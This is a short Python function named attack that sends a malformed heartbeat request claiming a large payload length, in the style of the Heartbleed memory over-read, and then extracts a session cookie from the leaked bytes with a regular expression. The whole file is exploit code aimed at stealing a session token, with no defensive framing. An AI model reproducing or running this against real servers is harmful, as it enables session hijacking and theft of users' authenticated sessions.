import re


def attack(peer):
    leaked = peer.send_heartbeat(b"\x01\xff\xff")
    found = re.search(rb"Cookie: session=([0-9a-f]{32})", leaked)
    return found[1].decode()
